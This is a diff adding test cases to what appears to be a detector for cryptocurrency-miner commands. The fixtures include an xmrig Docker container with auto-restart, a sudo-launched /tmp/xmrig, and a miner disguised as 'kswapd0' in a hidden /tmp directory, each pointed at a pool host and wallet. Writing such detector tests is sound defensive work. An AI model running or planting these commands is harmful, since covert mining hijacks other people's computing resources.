@@ -147,6 +147,20 @@ const perMiner: Fires[] = [
 
 const places: Fires[] = [
   fires(
+    'a container, with flags before the image',
+    'script',
+    `docker run -d --restart always metal3d/xmrig:latest -o ${host}:80 -u ${wallet}`,
+    [{ host, port: 80, ...account }],
+    { miner: 'xmrig' },
+  ),
+  fires(
+    'a shell before the miner',
+    'script',
+    `sudo -E sh -c "nice -n 19 /tmp/xmrig -o ${host}:80 -u ${wallet}"`,
+    [{ host, port: 80, ...account }],
+    { miner: 'xmrig' },
+  ),
+  fires(
     "a renamed miner, which only its wallet gives away, so no miner's name",
     'script',
     `cd /tmp/.x && ./kswapd0 -o 192.0.2.4:3333 -u ${wallet} -k`,
